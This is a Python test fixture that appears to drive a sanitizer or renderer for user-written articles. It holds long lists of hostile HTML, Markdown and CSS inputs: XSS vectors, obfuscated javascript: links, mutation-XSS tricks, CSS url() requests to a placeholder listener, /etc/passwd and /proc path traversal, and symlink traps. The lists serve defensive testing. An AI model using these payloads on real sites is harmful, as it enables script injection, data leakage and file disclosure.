"""What a hostile article tries: ways to ask for something or to run something, and the places where they are put.

In each, THERE stands for a web address that is listened at, HOST for its host and port, FILE for the file address of a
picture outside the article's folder and RUN for a script that shows in an alert and in the page's title.
"""

from __future__ import annotations

from collections.abc import Callable
from os import mkfifo
from pathlib import Path

RUN = "alert(document.title=1)"

ELEMENTS = (
    r"""
<script>RUN</script>
<script src=THERE/script.js></script>
<script type=module>import 'THERE/module.js'</script>
<SCRIPT/x src=THERE/slash.js></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script>fetch('THERE/fetch')</script>
<script>new WebSocket('ws://HOST/socket')</script>
<script>new EventSource('THERE/events')</script>
<script>navigator.sendBeacon('THERE/beacon')</script>
<script>new Worker('THERE/worker.js')</script>
<script>open('THERE/opened')</script>
<img src=THERE/image.png>
<img src=x onerror=RUN>
<img src=x onerror=RUN//
<img/src=x/onerror=RUN>
<img src=`x`onerror=RUN>
<IMG """
    '"""'
    r"""><SCRIPT>RUN</SCRIPT>">
<img src=//HOST/no-scheme.png>
<img src="ht&#10;tp://HOST/split.png">
<img src=" THERE/space.png">
<img src="&#x1;THERE/control.png">
<img src=\\HOST\backslashes.png>
<img src=http:\\HOST\more-backslashes.png>
<img srcset="THERE/set.png 1x">
<img src=a.png srcset=THERE/set-too.png sizes=1px>
<img loading=lazy src=THERE/lazy.png>
<img lowsrc=THERE/lowsrc.png dynsrc=THERE/dynsrc.png>
<image src=THERE/old-name.png>
<img src=FILE>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<picture><source srcset=THERE/source.png><img src=a.png></picture>
<video src=THERE/video.mp4 poster=THERE/poster.png autoplay></video>
<audio src=THERE/audio.mp3 autoplay></audio>
<video><source src=THERE/source.mp4 onerror=RUN></video>
<video><track default src=THERE/track.vtt></video>
<iframe src=THERE/frame></iframe>
<iframe srcdoc="<script>top.RUN</script><img src=THERE/srcdoc.png>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<frameset><frame src=THERE/frameset></frameset>
<object data=THERE/object></object>
<object data="javascript:RUN"></object>
<object type=image/svg+xml data=THERE/object.svg></object>
<embed src=THERE/embed>
<embed src="javascript:RUN">
<applet code=x archive=THERE/applet.jar></applet>
<portal src=THERE/portal></portal>
<fencedframe src=THERE/fenced></fencedframe>
<svg onload=RUN></svg>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=THERE/svg.js></script></svg>
<svg><image href=THERE/svg.png /></svg>
<svg><image xlink:href=THERE/xlink.png /></svg>
<svg><use href="THERE/use.svg#x"/></svg>
<svg><feImage href=THERE/filter.png /></svg>
<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>
<svg><set attributeName=href to=THERE/set.svg /></svg>
<svg><style>@import 'THERE/svg.css'</style></svg>
<svg><foreignObject><img src=THERE/foreign.png></foreignObject></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>
<math href="javascript:RUN">x</math>
<math><maction actiontype=statusline xlink:href="javascript:RUN">x</maction></math>
<form action=THERE/form><input name=q><button>x</button></form>
<form id=f action=THERE/form></form><button form=f formaction="javascript:RUN">x</button>
<input type=image src=THERE/input.png>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<isindex action="javascript:RUN" type=image src=THERE/isindex.png>
<meta http-equiv=refresh content="0; url=THERE/refresh">
<meta http-equiv=refresh content="0; url=javascript:RUN">
<meta http-equiv=refresh content="0; url=data:text/html,<script>RUN</script>">
<meta http-equiv=Set-Cookie content=a=b>
<meta http-equiv=Content-Security-Policy content="default-src *; script-src * 'unsafe-inline'">
<base href=THERE/base/>
<base target=_blank>
<link rel=stylesheet href=THERE/link.css>
<link rel=preload as=image href=THERE/preload.png>
<link rel=prefetch href=THERE/prefetch>
<link rel=prerender href=THERE/prerender>
<link rel=modulepreload href=THERE/modulepreload.js>
<link rel=icon href=THERE/icon.png>
<link rel=manifest href=THERE/manifest.json>
<link rel=import href=THERE/import.html>
<link rel=preconnect href=THERE>
<link rel=dns-prefetch href=//stet-hostile.test>
<style>@import 'THERE/import.css';</style>
<style>@import url(THERE/import-url.css);</style>
<style>body{background:url(THERE/background.png)}</style>
<style>@font-face{font-family:x;src:url(THERE/font.woff)}*{font-family:x}</style>
<style>*{list-style:url(THERE/list.png);cursor:url(THERE/cursor.cur),auto;content:url(THERE/content.png)}</style>
<style>*{background:image-set('THERE/image-set.png' 1x)}</style>
<style>*{mask:url(THERE/mask.svg#x);filter:url(THERE/filter.svg#x)}</style>
<style>@namespace url(THERE/namespace);p{behavior:url(THERE/behaviour.htc);-moz-binding:url(THERE/xbl)}</style>
<style>section{display:none}</style>
<p style="background:url(THERE/style.png)">x</p>
<p style="background:\75rl(THERE/escaped.png)">x</p>
<p style="background:url(&quot;THERE/quoted.png&quot;)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="position:fixed;inset:0;z-index:9;background:red">x</p>
<body background=THERE/body.png onload=RUN>
<table background=THERE/table.png><tr><td background=THERE/cell.png>x</table>
<p onclick=RUN onmouseover=RUN onpointerenter=RUN onfocus=RUN tabindex=0 autofocus>x</p>
<details open ontoggle=RUN><summary>x</summary></details>
<marquee onstart=RUN>x</marquee>
<div onanimationstart=RUN style="animation:x 1s">x</div>
<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p>x</button>
<dialog open onclose=RUN>x</dialog>
<a href="javascript:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href="java&Tab;script&colon;RUN">x</a>
<a href="&#106;avascript&#58;RUN">x</a>
<a href="&#x6A;&#x61;vascript:RUN">x</a>
<a href="&#0000106avascript:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href="vbscript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="view-source:javascript:RUN">x</a>
<a href="feed:javascript:RUN">x</a>
<a href="blob:THERE/x">x</a>
<a href="filesystem:THERE/x">x</a>
<a href="stet://shell/shell.html?again">x</a>
<a href="chrome://crash">x</a>
<a href=FILE>x</a>
<a href=#x ping=THERE/ping>x</a>
<a href=a.html download=THERE>x</a>
<area shape=default href="javascript:RUN">
<q cite=THERE/cite>x</q><blockquote cite="javascript:RUN">x</blockquote>
<img src=a.png usemap=#m longdesc=THERE/longdesc><map name=m><area href="javascript:RUN"></map>
<template><img src=THERE/template.png onerror=RUN></template>
<template shadowrootmode=open><img src=THERE/shadow.png onerror=RUN></template>
<noscript><img src=THERE/noscript.png></noscript>
<xml id=x><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script></xml>
<?xml-stylesheet href="THERE/pi.css"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "FILE">]><p>&e;</p>
<![CDATA[<img src=THERE/cdata.png onerror=RUN>]]>
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--><img src=THERE/comment.png onerror=RUN>-->
<custom-element onclick=RUN is=x>x</custom-element>
<p id=article>x</p><p id=dark>x</p><a id=stet name=getElementById href=x>x</a><img name=body src=a.png>
<p class="chunk pending stale" data-chunk=1>x</p>
<p contenteditable draggable=true ondragstart=RUN>x</p>
<p xmlns:x="javascript:RUN" x:onclick=RUN>x</p>
<p <img src=THERE/in-tag.png onerror=RUN>x</p>
<p title='"><img src=THERE/title.png onerror=RUN>'>x</p>
<p title="`onmouseover=RUN `">x</p>
<p/onclick=RUN/>x</p>
<<img src=x onerror=RUN>>
&lt;img src=THERE/entity.png onerror=RUN&gt;
&amp;lt;img src=THERE/entity-twice.png onerror=RUN&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
\<script>RUN\</script>
＜script＞RUN＜/script＞
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
"""
)

MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=THERE/m1.png onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=THERE/m2.png onerror=RUN>">
<noscript><p title="</noscript><img src=THERE/m3.png onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=THERE/m4.png onerror=RUN>
<svg><desc><title><a title="</title><img src=THERE/m5.png onerror=RUN>"></title></desc></svg>
<math><annotation-xml encoding=text/html><style><img title="</style><img src=THERE/m6.png onerror=RUN>">
<select><template><img src=THERE/m7.png onerror=RUN></template></select>
<select><style><img title="</style><img src=THERE/m8.png onerror=RUN>"></select>
<table><td><svg><td><style><img title="</style><img src=THERE/m9.png onerror=RUN>">
<p><svg><foreignObject><p><style><img title="</style><img src=THERE/m10.png onerror=RUN>">
<svg><![CDATA[><img title="]]><img src=THERE/m11.png onerror=RUN>">
<a><table><a title="<img src=THERE/m12.png onerror=RUN>">x</a></table></a>
<iframe><a title="</iframe><img src=THERE/m13.png onerror=RUN>">
<xmp><p title="</xmp><img src=THERE/m14.png onerror=RUN>">
<noembed><p title="</noembed><img src=THERE/m15.png onerror=RUN>">
<noframes><p title="</noframes><img src=THERE/m16.png onerror=RUN>">
<textarea><p title="</textarea><img src=THERE/m17.png onerror=RUN>">
<title><p title="</title><img src=THERE/m18.png onerror=RUN>">
<pre><p title="</pre><img src=THERE/m19.png onerror=RUN>">
<p title="--!><img src=THERE/m20.png onerror=RUN>"><!--
<ruby><rp><table><rt><style><img title="</style><img src=THERE/m21.png onerror=RUN>">
<svg><font color=x><style><img title="</style><img src=THERE/m22.png onerror=RUN>">
"""

# Without an end these may take in all that follows them.
OPEN_ENDED = """
<!--!><img src=x onerror=RUN>--!><img src=x onerror=RUN>
<script>RUN
<style>@import 'THERE/open.css';
<!-- <img src=THERE/open-comment.png onerror=RUN>
<plaintext><img src=THERE/plaintext.png onerror=RUN>
<textarea><img src=THERE/textarea.png onerror=RUN>
<title><img src=THERE/open-title.png onerror=RUN>
<xmp><img src=THERE/xmp.png onerror=RUN>
<listing><img src=THERE/listing.png onerror=RUN>
<noembed><img src=THERE/noembed.png onerror=RUN>
<noframes><img src=THERE/noframes.png onerror=RUN>
<iframe><img src=THERE/open-frame.png onerror=RUN>
<svg><style><img src=THERE/open-svg.png onerror=RUN>
<math><mi><img src=THERE/open-math.png onerror=RUN>
<template><img src=THERE/open-template.png onerror=RUN>
<img src='THERE/dangling.png?
<a href='THERE/dangling?
<p title="<img src=THERE/open-value.png onerror=RUN>
<![CDATA[<img src=THERE/open-cdata.png onerror=RUN>
<?php <img src=THERE/open-instruction.png onerror=RUN>
<body onload=RUN
"""

MARKDOWN = r"""
![a](THERE/md.png)
![a](//HOST/md-no-scheme.png)
![a](FILE)
![a](../secret.png)
![a](..%2fsecret.png)
![a](%2e%2e/secret.png)
![a](%252e%252e%252fsecret.png)
![a](..\\secret.png)
![a](..%5csecret.png)
![a](sub/../../secret.png)
![a](link.png)
![a](link/secret.png)
![a](fifo.png)
![a](folder.png)
![a](proc.png/self/environ)
![a](a.png%00../secret.png)
![a](stet://shell/shell.html)
![a](stet://article/../secret.png)
![a](data:image/svg+xml,%3Csvg%20onload=RUN%3E)
![a](javascript:RUN)
![a](<THERE/angle.png> "title\" onerror=RUN")
![a" onerror="RUN](x.png)
![](x.png"onerror="RUN)
![a](x.png '" onerror="RUN')
[x](javascript:RUN)
[x](<javascript:RUN>)
[x](java&#10;script:RUN)
[x](javascript&colon;RUN)
[x](JAVASCRIPT:RUN "title")
[x](data:text/html,RUN)
[x](vbscript:RUN)
[x](FILE)
[x](file:///etc/passwd)
[x](x" onclick="RUN)
[x](x 'y" onclick="RUN')
<javascript:RUN>
<THERE/autolink>
<x@y.test?attach=/etc/passwd>
[![a](THERE/linked.png)](javascript:RUN)
[ref-run] ![ref-image] ![b][ref-file]
[^note-run]
MALICE abbreviation
x{: onclick=RUN style=background:url(THERE/attributes.png) src=THERE/attributes-src.png }
![a](a.png){: onerror=RUN srcset=THERE/attributes-set.png src=THERE/attributes-override.png }
[x](y){: href=javascript:RUN ping=THERE/attributes-ping target=_blank }
`<img src=THERE/code.png onerror=RUN>`
**<img src=THERE/bold.png onerror=RUN>**
THERE/bare-address
www.stet-hostile.test
"""

# Style sheets of a folder, each on a line on which CR and FF are written as in Python.
STYLES = tuple(
    line.replace(r"\r", "\r").replace(r"\f", "\f")
    for line in r"""
@import 'THERE/import.css';
@\69mport url(THERE/import.css);
@import/**/'THERE/import.css';
@font-face { font-family: x; src: url(THERE/font.woff) } * { font-family: x }
p { background: url(THERE/plain.png) }
p { background: u\72l(THERE/escaped.png) }
p { background: \000075 rl("THERE/more-escaped.png") }
p { background: url("\68ttp://HOST/escaped-scheme.png") }
p { background: url(//HOST/no-scheme.png) }
p { background: url(FILE) }
p { background: url(a.png) }
p { background: url(/*x*/data:,x) }
p { background: url(\22 data:,x) }
p { background: url("\27 data:,x") }
p { background: image-set('THERE/set.png' 1x) }
p { background: -webkit-image-set('THERE/old-set.png' 1x) }
p { background: image-set(url(data:,x) calc(9x), 'THERE/second.png' 1x) }
p { --x: 'THERE/variable.png'; background: image-set(var(--x) 1x) }
p { --x: url(THERE/variable-address.png); background: var(--x) }
p { background: -webkit-cross-fade(url(THERE/fade.png), url(data:,x), 50%) }
p { background: src('THERE/src.png') }
@property --x { syntax: "<image>"; inherits: true; initial-value: url(THERE/property.png) } p { background: var(--x) }
p { cursor: url(THERE/cursor.png), auto; list-style: url(THERE/list.png); filter: url(THERE/filter.svg#x) }
p::after { content: url(THERE/content.png) } p { mask: url(THERE/mask.svg#x); border-image: url(THERE/border.png) 1 }
@media screen { @supports (color: red) { p { background: url(THERE/nested.png) } } }
x { a: "\r "/*"; } p { background: url(THERE/return.png) } /*"*/
x { a: "\f "/*"; } p { background: url(THERE/feed.png) } /*"*/
x { a: '\r '/*'; } p { background: url(THERE/return-quote.png) } /*'*/
x { a: url(data:x/*) } p { background: url(THERE/in-address.png) } x { a: url(x/*/) }
x { a: my-url(/*)"*/) } x { b: "/*" } p { background: url(THERE/whole-name.png) } x { d: "*/" }
x { a: #url(/*)"*/) } x { b: "/*" } p { background: url(THERE/hash-name.png) } x { d: "*/" }
x { a: 3url(/*)"*/) } x { b: "/*" } p { background: url(THERE/unit-name.png) } x { d: "*/" }
x { a: "\"/*"; } p { background: url(THERE/escaped-quote.png) } /*"*/
x { a: \"/*"*/; } p { background: url(THERE/escaped-outside.png) } /*"*/
p { background: url(data:text/html,<script>RUN</script>) }
p { background: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='THERE/x.png'/></svg>") }
p { behavior: url(#x); -moz-binding: url(#x); width: expression(RUN) }
p { background: url(data\:image/png;base64,x) } /* @import 'THERE/said.css'; url(THERE/said.png) */
p { background: attr(title type(<url>)); background: attr(title url) }
</style><script>RUN</script>
</STYLE ><img src=x onerror=RUN>
<!-- </style><script>RUN</script> -->
""".split("\n")
    if line
)

DEFINITIONS = r"""
[ref-run]: javascript:RUN "x"
[ref-image]: THERE/reference.png
[ref-file]: FILE "\" onerror=RUN"

[^note-run]: <img src=THERE/note.png onerror=RUN> [x](javascript:RUN)

    <script>RUN</script>

*[MALICE]: <img src=THERE/abbreviation.png onerror=RUN>" onclick="RUN
"""


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line)


# Names that no file system takes.
LONG_NAMES = (f"![a]({'x' * 5000}.png)", f"![a]({'x' * 5000}/a.png)", f"![a]({'a/' * 3000}a.png)")
CLOSED = (*_lines(ELEMENTS), *_lines(MARKDOWN), *LONG_NAMES)
OPEN = (*_lines(MUTATIONS), *_lines(OPEN_ENDED))

_VALUE = str.maketrans({"\\": "\\\\", '"': '\\"'})

PLACES: dict[str, Callable[[str], str]] = {
    "block": lambda what: what,
    "inline": lambda what: f"Words {what} words.",
    "heading": lambda what: f"## Words {what}",
    "item": lambda what: f"- Words\n- {what}\n",
    "deep item": lambda what: f"1. Words\n\n    - more\n\n        {what}\n",
    "task": lambda what: f"- [x] {what}\n",
    "quote": lambda what: f"> {what}\n",
    "cell": lambda what: f"| a | b |\n|---|---|\n| {what.replace('|', chr(92) + '|')} | x |\n",
    "header cell": lambda what: f"| {what.replace('|', chr(92) + '|')} | b |\n|---|---|\n| x | y |\n",
    "citations cell": lambda what: (
        f"| S.No | Paper Title (Author, Year) | Citations |\n|---|---|---|\n| 1 | {what} (Doe, 2013) | {what} |\n"
    ),
    "definition": lambda what: f"{what}\n:   {what}\n",
    "admonition": lambda what: f'!!! note "{what}"\n    {what}\n',
    "strong link text": lambda what: f"**[{what}](https://example.com)**",
    "link title": lambda what: f'[words](https://example.com "{what}")',
    "link address": lambda what: f"[words](<{what}>)",
    "image words": lambda what: f"![{what}](a.png)",
    "image title": lambda what: f'![words](a.png "{what}")',
    "image address": lambda what: f"![words](<{what}>)",
    "attribute list": lambda what: f"Words.\n{{: title=\"{what}\" lang='{what}' {what} }}\n",
    "info string": lambda what: f"~~~ {what}\ncode\n~~~\n",
    "info attributes": lambda what: f"~~~{{.python {what}}}\ncode\n~~~\n",
    "fenced code": lambda what: f"```html\n{what}\n```\n",
    "indented code": lambda what: f"Words.\n\n    {what}\n",
    "code span": lambda what: f"Words `` {what} `` words.",
    "html block": lambda what: f"<div>\n{what}\n</div>\n",
    "html value": lambda what: f'<p title="{what}" lang="{what}" id="{what}">words</p>\n',
    "html comment": lambda what: f"<!-- {what} -->\n",
    "strikethrough": lambda what: f"~~{what}~~",
    "front matter": lambda what: f"(title) {what}",
}


def aimed(text: str, *, there: str, secret: Path) -> str:
    """The text with what its capital names stand for."""
    host = there.removeprefix("http://")
    return text.replace("THERE", there).replace("HOST", host).replace("FILE", secret.as_uri()).replace("RUN", RUN)


def put(attempts: tuple[str, ...], place: str) -> str:
    """An article's body with each attempt in such a place, and a numbered heading that must be seen before each."""
    parts = (f"### Mark {number}\n\n{PLACES[place](what)}" for number, what in enumerate(attempts))
    return "\n\n".join((*parts, f"### Mark {len(attempts)}", DEFINITIONS))


def front_matter(attempts: tuple[str, ...]) -> str:
    """Front matter with the attempts in the fields that the form and the page show, under keys that are some too."""
    attempts = tuple(each for each in attempts if each not in LONG_NAMES)  # it would be taken for none
    fields = [f'title: "{" ".join(attempts).translate(_VALUE)}"']
    names = ("author", "date", "lang", "description", "affiliate_link", "tags", "image")
    for name, few in zip(names, batched(attempts, len(attempts) // len(names) + 1), strict=True):
        fields.append(f'{name}: "{" ".join(few).translate(_VALUE)}"')
    fields += [f'"{what.translate(_VALUE)}": "{what.translate(_VALUE)}"' for what in attempts[:20]]
    return "\n".join(("---", *fields, "---", "", ""))


def batched(attempts: tuple[str, ...], size: int) -> list[tuple[str, ...]]:
    """The attempts in groups of so many."""
    return [attempts[first : first + size] for first in range(0, len(attempts), size)]


def set_traps(folder: Path) -> Path:
    """Fill an article's folder with what must not be read; the picture outside it that must not be shown."""
    secret = folder.parent / "secret.png"
    (folder / "link.png").symlink_to(secret)
    (folder / "link").symlink_to(folder.parent)
    (folder / "proc.png").symlink_to("/proc")
    (folder / "folder.png").mkdir()
    mkfifo(folder / "fifo.png")
    return secret
